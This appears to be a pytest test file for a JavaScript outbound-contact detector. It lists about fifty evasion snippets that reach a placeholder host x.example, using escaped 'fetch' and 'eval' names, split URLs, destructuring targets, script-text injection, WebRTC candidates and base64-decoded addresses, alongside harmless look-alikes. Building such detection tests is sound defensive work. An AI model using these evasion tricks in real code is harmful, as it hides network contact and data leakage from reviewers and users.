"""Scripts that go round what is looked for: escaped names, pieces of URLs, targets that are no plain assignment."""

from __future__ import annotations

import pytest

from tests.examine.outbound.outbound_kit import outbound

BARRED = {"automatic", "conditional", "code", "string", "opaque", "interaction"}
"""The ways of contact that keep a delivery from being approved where nobody declared them."""
ESCAPED = r"\u"
AWAY = "'/' + '/x.example/a'"
"""The address of another host, in pieces."""
IMAGE = "'<im' + 'g sr' + 'c=/' + '/x.example/a>'"

AROUND = {
    "name in escapes": rf"f\u0065tch({AWAY})",
    "name in escapes with braces": rf"\u{{66}}etch({AWAY})",
    "class in escapes": r"new \u0057ebSocket('wss:/' + '/x.example')",
    "property in escapes": rf"new Image().\u0073rc = {AWAY}",
    "name in escapes within a template": rf"`${{f\u0065tch({AWAY})}}`",
    "eval in escapes": f"{ESCAPED}0065v{ESCAPED}0061l(name)",
    "place of the page": f"location.href = {AWAY}",
    "place of a frame": f"frames[0].location = {AWAY}",
    "place by a method": f"location.assign({AWAY})",
    "method by a computed name": f"location['assign']({AWAY})",
    "window": f"open({AWAY})",
    "write by a computed name": f"document['wri' + 'te']({IMAGE})",
    "fragment of a range": f"document.body.append(document.createRange().createContextualFragment({IMAGE}))",
    "parser": f"document.body.append(new DOMParser().parseFromString({IMAGE}, 'text/html').body.firstChild)",
    "unsafe parser": f"document.body.append(Document.parseHTMLUnsafe({IMAGE}).body.firstChild)",
    "with an image": f"with (new Image) src = {AWAY}",
    "with the location": f"with (location) assign({AWAY})",
    "with the document": f"with (document) write({IMAGE})",
    "array pattern": f"[new Image().src] = [{AWAY}]",
    "object pattern": f"({{a: new Image().src}} = {{a: {AWAY}}})",
    "target of a loop": f"for (new Image().src of [{AWAY}]);",
    "target of a loop over keys": f"for (location.href in {{[{AWAY}]: 1}});",
    "assignment if empty": f"const i = new Image; i.src ||= {AWAY}",
    "markup added to": f"document.body.innerHTML += {IMAGE}",
    "text of a script": "const s = document.createElement('script'); s.text = 'fet' + 'ch(name)'",
    "content of a script": "const s = document.createElement('script'); s.textContent = 'fet' + 'ch(name)'",
    "markup of a script": "const s = document.createElement('script'); s.innerHTML = 'fet' + 'ch(name)'",
    "text added to a script": "const s = document.createElement('script'); s.append('fet' + 'ch(name)')",
    "node added to a script": "const s = document.createElement('script');"
    " s.appendChild(document.createTextNode('fet' + 'ch(name)'))",
    "computed key": f"Object.assign(document.createElement('img'), {{['sr' + 'c']: {AWAY}}})",
    "attributes of a new element": f"$('<im' + 'g>', {{src: {AWAY}}})",
    "part of a page by a library": f"$('#a').load({AWAY})",
    "link that the script clicks": "const a = document.createElement('a'); a.href = 'https://x.example'; a.click()",
    "key frames": "document.body.animate({backgroundImage: ['ur' + 'l(/' + '/x.example)', 'none']}, 9)",
    "key frames in a list": "document.body.animate([{background: 'ur' + 'l(/' + '/x.example)'}], 9)",
    "map of styles": "document.body.attributeStyleMap.set('background-image', 'ur' + 'l(/' + '/x.example)')",
    "servers of a peer, later": "pc.setConfiguration({iceServers: [{urls: 'stu' + 'n:x.example'}]})",
    "address of a peer": "pc.addIceCandidate({candidate: 'candidate:1 1 UDP 1 203.0.113.9 9 typ host'})",
    "cache": f"caches.open('a').then(c => c.add({AWAY}))",
    "cache of several": f"caches.open('a').then(c => c.addAll([{AWAY}]))",
    "fetch in the background": f"r.backgroundFetch.fetch('a', [{AWAY}])",
    "text that a timer runs": "setTimeout(document.title, 0)",
    "text that a generator is made of": "(function* () {}).constructor(location.hash)().next()",
    "text that a function is made of": "[].at.constructor.constructor(name)()",
    "zero byte in a comment": f"/* \0 */ fetch({AWAY})",
    "worklet": f"CSS.paintWorklet.addModule({AWAY})",
    "handler of a protocol": "navigator.registerProtocolHandler('mailto', 'https:/' + '/x.example/%s')",
    "handler of errors": f"onerror = fetch; throw {AWAY}",
    "handler of errors of the window": "window.onerror = eval; throw '=' + name",
    "symbol of the language": f"{AWAY} instanceof {{[Symbol.hasInstance]: fetch}}",
    "import of a module": "WebAssembly.instantiate(bytes, {e: {f: fetch}})",
    "unknown function, whose argument is in pieces": "pay([{methods: 'https:/' + '/x.example/pay'}])",
    "unknown function, scheme in pieces": "pay('ht' + 'tps://x.example/pay')",
    "unknown function, joined": "pay(['https:', '', 'x.example', 'pay'].join('/'))",
    "unknown function, decoded": "pay(atob('aHR0cHM6Ly94LmV4YW1wbGUvcGF5'))",
}


@pytest.mark.parametrize("name", AROUND)
def test_contact_in_a_roundabout_way_is_told(name: str) -> None:
    assert BARRED & {fact.reach for fact in outbound(AROUND[name], "a.js")}, outbound(AROUND[name], "a.js")


AT_HOME = [
    r"var caf\u00e9 = 1; call(caf\u00e9)",
    r"var re = /[\u0041-\u005a]+/, t = '\u0066etch', u = `\u0066etch`",
    "location.href = '/' + 'a/b.html'",
    "location.assign('/a' + '/b.html'); open('/' + 'a.html')",
    "document['wri' + 'te']('<im' + 'g src=a.png>')",
    "new DOMParser().parseFromString(text, 'text/html')",
    "with (context) title = 'a'",
    "[a.src, b.title] = ['a.png', '//']; ({a: c.src} = {a: 'b.png'})",
    "for (x.src of ['a.png', 'b.png']);",
    "i.src ||= 'a.png'; n += 1; p.innerHTML += '<b>a</b>'",
    "const s = document.createElement('script'); s.text = 'var a = 1'; s.append('var b')",
    "const d = document.createElement('div'); d.append('fetch is a word'); d.textContent = 'eval(x)'",
    "Object.assign(document.createElement('img'), {['sr' + 'c']: 'a.png'})",
    "$('<img>', {src: 'a.png'}); $('<img>', done)",
    "const a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.click()",
    "box.animate({left: '+=50', opacity: 0.5}, 400); box.animate([{transform: 'none'}], 9)",
    "const seen = new Set(); seen.add(name); map.set('background', 'red')",
    "setTimeout(tick, 0); setInterval(this.tick, 9); new this.constructor(a); this.constructor(b)",
    "caches.open('a').then(c => c.addAll(['a.js', '/b.css']))",
    "window.onerror = report; onload = () => start()",
    "WebAssembly.instantiate(bytes, {env: {log: console.log}})",
    "show('a long text ' + 'in two pieces, with 1/2 and a: b'); list.join('/'); [1, 2].join(', ')",
    "draw('M0 0' + 'L1//1'); path(['a', '', 'b'].join('/'))",
]


@pytest.mark.parametrize("script", AT_HOME)
def test_the_same_ways_at_home_are_nothing(script: str) -> None:
    assert outbound(script, "a.js") == []
